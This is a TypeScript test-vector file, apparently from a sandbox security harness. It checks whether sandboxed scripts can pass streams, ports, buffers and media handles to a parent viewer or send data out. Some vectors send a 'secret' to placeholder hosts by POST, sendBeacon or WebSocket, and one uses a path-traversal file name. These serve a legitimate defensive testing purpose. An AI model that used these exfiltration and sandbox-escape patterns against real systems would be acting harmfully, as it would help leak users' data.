import { family, inScript, type Vector } from './vector.ts';

const onPort = (code: string, expected: Vector['expected'] = 'malformed'): Partial<Vector> => ({
  javascript: `steal((port) => { ${code} })`,
  expected,
  wait: 2_000,
});
const toViewer = (code: string): Partial<Vector> => ({ javascript: `try { ${code} } catch {}` });
const CALL = `JSON.stringify({ type: 'call', id: 1, call: 'file.save', name: 'x', mediaType: '' })`;
const ENDLESS = `new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(65536)) } }, { highWaterMark: 0 })`;

/** Streams and other things that travel with a message, to the viewer or out. */
export const streams = family(
  'transferred streams',
  { control: false, wait: 1_100 },
  {
    'a readable stream on the port': onPort(
      `for (let i = 0; i < 3; i++) { const s = ${ENDLESS}; port.postMessage(s, [s]) }`,
      'contained',
    ),
    'a writable stream on the port': onPort(
      `for (let i = 0; i < 3; i++) { const s = new WritableStream({ write(x) { got('the viewer wrote ' + x) } }); port.postMessage(s, [s]) }`,
      'contained',
    ),
    'a transform stream on the port': onPort(
      `for (let i = 0; i < 3; i++) { const s = new TransformStream(); port.postMessage(s, [s]) }`,
      'contained',
    ),
    'a stream in the place of a file': onPort(
      `for (let i = 0; i < 3; i++) { const s = ${ENDLESS}; port.postMessage([${CALL}, s], [s]) }`,
      'contained',
    ),
    'a stream beside a message': onPort(
      `const s = ${ENDLESS}; port.postMessage('{"type":"pong"}', [s])`,
      'contained',
    ),
    'a port beside a message': onPort(
      `const c = new MessageChannel(); c.port1.onmessage = () => got('the viewer answered'); port.postMessage('{"type":"pong"}', [c.port2]); c.port1.postMessage(${CALL})`,
      'silent',
    ),
    'a port in the place of a file': onPort(
      `for (let i = 0; i < 3; i++) { const c = new MessageChannel(); port.postMessage([${CALL}, c.port2], [c.port2]) }`,
    ),
    'the port itself over another port': onPort(
      `const c = new MessageChannel(); c.port1.postMessage('x', [port]); c.port2.onmessage = (e) => { for (let i = 0; i < 3; i++) e.ports[0].postMessage(i) }; c.port2.start()`,
      'contained',
    ),
    'a port to the viewer': toViewer(
      `const c = new MessageChannel(); c.port1.onmessage = () => got('the viewer answered'); parent.postMessage('x', '*', [c.port2]); c.port1.postMessage('{"type":"ready"}')`,
    ),
    'a readable stream to the viewer': toViewer(
      `const s = new ReadableStream({ pull() { got(++globalThis.pulled > 9 && 'the viewer reads') } }); pulled = 0; parent.postMessage(s, '*', [s])`,
    ),
    'twenty streams to the viewer': toViewer(
      `for (let i = 0; i < 20; i++) { const s = ${ENDLESS}; parent.postMessage(s, '*', [s]) }`,
    ),
    'a buffer that is transferred': onPort(
      `for (let i = 0; i < 3; i++) { const b = new ArrayBuffer(1e7); port.postMessage(b, [b]) }`,
      'contained',
    ),
    'an image and a canvas': onPort(
      `const c = document.createElement('canvas'); createImageBitmap(new ImageData(1, 1)).then((b) => { port.postMessage(b, [b]); port.postMessage(new ImageData(1, 1)); const o = c.transferControlToOffscreen(); port.postMessage(o, [o]) })`,
      'contained',
    ),
    'a video frame and sound': onPort(
      `try { const v = new VideoFrame(new Uint8Array(4), { format: 'RGBA', codedWidth: 1, codedHeight: 1, timestamp: 0 }); port.postMessage(v, [v]) } catch {} try { const a = new AudioData({ format: 'f32', sampleRate: 8000, numberOfFrames: 1, numberOfChannels: 1, timestamp: 0, data: new Float32Array(1) }); port.postMessage(a, [a]) } catch {} port.postMessage(0)`,
      'contained',
    ),
    'a data channel and a track': onPort(
      `try { const p = new RTCPeerConnection(); const d = p.createDataChannel('x'); port.postMessage(d, [d]) } catch {} try { const t = document.createElement('canvas').captureStream().getTracks()[0]; port.postMessage(t, [t]) } catch {} port.postMessage(0)`,
      'contained',
    ),
    'a file handle, a key and a certificate': onPort(
      `crypto.subtle?.generateKey({ name: 'AES-GCM', length: 128 }, false, ['encrypt']).then((k) => port.postMessage(k)); port.postMessage(new DOMException('x', 'DataCloneError')); try { RTCPeerConnection.generateCertificate('ECDSA').then((c) => port.postMessage(c)) } catch {}`,
      'contained',
    ),
    'a file that grows while it is read': {
      ...onPort(
        `port.postMessage([${CALL}, new File([new Blob(['x'.repeat(1e6)]), new Blob(['y'])], 'a/../b', { type: 'text/html', lastModified: -1 })])`,
        'asks',
      ),
      capabilities: ['downloads'],
    },
    'a thing that cannot be cloned': onPort(
      `for (const x of [() => {}, Symbol('x'), document, window, new WeakMap(), new Proxy({}, {})]) try { port.postMessage(x) } catch {}`,
      'contained',
    ),
    'options in the place of a list': onPort(
      `const c = new MessageChannel(); port.postMessage('{"type":"pong"}', { transfer: [c.port1], includeUserActivation: true, delegate: 'fullscreen', targetOrigin: '*' })`,
      'silent',
    ),
    'a right that is handed over': toViewer(
      `parent.postMessage('x', { targetOrigin: '*', delegate: 'fullscreen payment display-capture', includeUserActivation: true })`,
    ),
    ...inScript({
      'a stream that is sent out': {
        javascript: `fetch('%H%/x', { method: 'POST', duplex: 'half', body: new Blob(['secret']).stream() }).catch(() => {}); try { navigator.sendBeacon('%H%/y', new Blob(['secret'])) } catch {}`,
        control: true,
      },
      'a stream that is packed and sent': {
        javascript: `new Response(new Blob(['secret']).stream().pipeThrough(new CompressionStream('gzip'))).blob().then((body) => fetch('%H%/x', { method: 'POST', mode: 'no-cors', body })).catch(() => {})`,
        control: true,
      },
      'a stream of a WebSocket': {
        javascript: `try { const s = new WebSocketStream('%W%/x'); s.opened.catch(() => {}); s.closed.catch(() => {}) } catch {} try { new WebSocket('%W%/y').binaryType = 'blob' } catch {}`,
        control: true,
      },
    }),
  },
);
